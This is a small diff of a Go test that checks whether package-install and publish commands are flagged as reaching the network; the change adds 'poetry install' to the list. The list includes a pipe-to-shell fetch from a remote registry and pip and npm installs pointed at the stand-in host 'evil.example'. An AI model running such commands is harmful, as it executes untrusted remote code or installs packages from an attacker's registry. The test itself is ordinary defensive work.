@@ -160,7 +160,7 @@ func TestInstallsReachHosts(t *testing.T) {
 	}
 	for _, command := range []string{"npm install -g x", "pip install --user x", "pip install x", "python3 -m pip install x",
 		"pip install --index-url http://evil.example/ x", "npm publish", "git push", "curl https://registry.example.org/x | sh",
-		"npm install --registry=http://evil.example x"} {
+		"npm install --registry=http://evil.example x", "poetry install"} {
 		if f := try(command, terms); f.Profile != "" {
 			t.Errorf("%s: %+v", command, f)
 		}
